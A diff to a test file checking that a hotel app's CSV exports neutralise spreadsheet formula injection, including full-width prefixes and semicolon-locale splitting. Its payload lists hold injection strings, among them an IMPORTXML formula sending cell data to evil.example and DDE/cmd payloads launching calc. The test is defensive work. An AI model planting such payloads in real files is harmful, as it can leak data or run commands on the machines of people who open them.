@@ -9,7 +9,8 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createTestApp, type TestApp, type TestSession } from '../helpers.ts';
 import { createHotel, createProfile, createSnippet } from '../../src/modules/hotels/hotels.factories.ts';
 
-const FORMULA_START = /^[=+\-@\t\r\n]/;
+// OWASP's prefixes plus their full-width forms, which East Asian spreadsheet locales also read.
+const FORMULA_START = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;
 
 const PAYLOADS = [
   '=1+1',
@@ -24,6 +25,26 @@ const PAYLOADS = [
   '\n=1+1',
   '=IMPORTXML(CONCAT("http://evil.example/?", A2), "//a")',
   "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
+  '\uFF1D1+1',
+  '\uFF0BSUM(1+1)',
+  '\uFF0D2+3',
+  '\uFF20SUM(A1:A9)',
+];
+
+/**
+ * Harmless where the list separator is a comma, formulas where it is a semicolon (most of
+ * continental Europe): a cell such as `Spa;=1+1;x` splits into `Spa`, `=1+1`, `x` there, and a
+ * line break inside a cell can start a new row. The export is read back as each locale would.
+ */
+const SEMICOLON: [payload: string, comma: string][] = [
+  ['Spa;=1+1;x', "Spa;'=1+1;x"],
+  ['Pool; +cmd|\' /C calc\'!A0', "Pool; '+cmd|' /C calc'!A0"],
+  ['a;@SUM(A1:A9)', "a;'@SUM(A1:A9)"],
+  ['b;-2+3', "b;'-2+3"],
+  ['c;\t=1+1', "c;'\t=1+1"],
+  ['d;\uFF1D1+1', "d;'\uFF1D1+1"],
+  ['first line\n=HYPERLINK("http://evil.example")', 'first line\n\'=HYPERLINK("http://evil.example")'],
+  ['first line\r\n@SUM(A1)', "first line\r\n'@SUM(A1)"],
 ];
 
 /** Text that is harmless but must survive quoting exactly. */
@@ -39,9 +60,13 @@ function parseCsv(body: string): Promise<{ headers: string[]; rows: string[][] }
   });
 }
 
-/** What a spreadsheet would see: a defused cell is the payload behind one apostrophe. */
+/**
+ * The payload behind the defusing apostrophes: one at the cell start, and one after each
+ * semicolon or line break that a formula character follows.
+ */
 function undefused(cell: string): string {
-  return cell.startsWith("'") && FORMULA_START.test(cell.slice(1)) ? cell.slice(1) : cell;
+  const start = cell.startsWith("'") && FORMULA_START.test(cell.slice(1)) ? cell.slice(1) : cell;
+  return start.replace(/(;|\r\n|\r|\n)( *)'(?=[=+\-@\t\uFF1D\uFF0B\uFF0D\uFF20])/g, '$1$2');
 }
 
 describe('CSV exports neutralize every formula prefix (incl. AI-written fields) and keep RFC 4180 text intact', () => {
@@ -70,6 +95,12 @@ describe('CSV exports neutralize every formula prefix (incl. AI-written fields) 
         model: payload,
       });
     }
+    for (const [payload] of SEMICOLON) {
+      const h = await createHotel(t.db, { name: payload });
+      hotelIds.push(h.id);
+      await createSnippet(t.db, h.id, { content: payload });
+      await createProfile(t.db, h.id, { name: payload, description: payload, amenities: JSON.stringify(['Pool', payload]) });
+    }
     for (const text of RFC4180) {
       const h = await createHotel(t.db, { name: text });
       hotelIds.push(h.id);
@@ -78,6 +109,12 @@ describe('CSV exports neutralize every formula prefix (incl. AI-written fields) 
     }
   }, 120_000);
   afterAll(() => t?.close());
+
+  async function raw(kind: 'profiles' | 'snippets') {
+    const res = await t.app.inject({ method: 'GET', url: `/api/export/${kind}`, headers: t.auth(user) });
+    expect(res.statusCode).toBe(200);
+    return res.body.replace(/^\uFEFF/, '');
+  }
 
   async function download(kind: 'profiles' | 'snippets') {
     const res = await t.app.inject({ method: 'GET', url: `/api/export/${kind}`, headers: t.auth(user) });
@@ -102,7 +139,7 @@ describe('CSV exports neutralize every formula prefix (incl. AI-written fields) 
   it('profiles export: every payload in every AI-written field is defused with a leading apostrophe', async () => {
     const { headers, rows } = await download('profiles');
     expect(headers).toContain('description');
-    expect(rows.length).toBe(PAYLOADS.length + RFC4180.length);
+    expect(rows.length).toBe(PAYLOADS.length + SEMICOLON.length + RFC4180.length);
     const defused = expectNoLiveFormula(rows, headers);
     // 8 text fields + 3 lists + model per payload hotel, plus the formula-like ids.
     expect(defused).toBeGreaterThanOrEqual(PAYLOADS.length * 9);
@@ -118,7 +155,7 @@ describe('CSV exports neutralize every formula prefix (incl. AI-written fields) 
 
   it('snippets export: contents, hotel names, hotel ids and source URLs are defused', async () => {
     const { headers, rows } = await download('snippets');
-    expect(rows.length).toBe(PAYLOADS.length + RFC4180.length);
+    expect(rows.length).toBe(PAYLOADS.length + SEMICOLON.length + RFC4180.length);
     const defused = expectNoLiveFormula(rows, headers);
     expect(defused).toBeGreaterThanOrEqual(PAYLOADS.length * 2 + 5);
     const contents = rows.map((r) => undefused(r[headers.indexOf('content')]!));
@@ -136,5 +173,28 @@ describe('CSV exports neutralize every formula prefix (incl. AI-written fields) 
     // Quoted fields double their quotes; records end with CRLF.
     expect(res.body).toContain('"Hotel ""Le Grand"", Paris"');
     expect(res.body.endsWith('\r\n') || res.body.split('\r\n').length > rows.length).toBe(true);
+  });
+
+  it.each(['profiles', 'snippets'] as const)('%s export: every field, header included, is quoted', async (kind) => {
+    const { headers, rows } = await download(kind);
+    const body = await raw(kind);
+    const records = [headers, ...rows];
+    // Rebuild the file as RFC 4180 with every field quoted: it must be the same bytes.
+    const quoted = records.map((r) => r.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',')).join('\r\n');
+    expect(body).toBe(quoted);
+  });
+
+  it.each(['profiles', 'snippets'] as const)('%s export: read with ";" as the separator, no piece starts like a formula', async (kind) => {
+    const body = await raw(kind);
+    // Whatever a semicolon-locale parser makes of the quotes, a cell can only begin at the start
+    // of a line or after a semicolon; leading spaces are skipped as some spreadsheets do.
+    const pieces = body.split(/\r\n|\r|\n/).flatMap((line) => line.split(';'));
+    const live = pieces.filter((piece) => FORMULA_START.test(piece.replace(/^ +/, '')));
+    expect(live).toEqual([]);
+    // The comma reading keeps the text, with an apostrophe only where a piece would start a formula.
+    const { headers, rows } = await download(kind);
+    const column = kind === 'profiles' ? 'description' : 'content';
+    const values = rows.map((r) => r[headers.indexOf(column)]!);
+    for (const [, comma] of SEMICOLON) expect(values).toContain(comma);
   });
 });
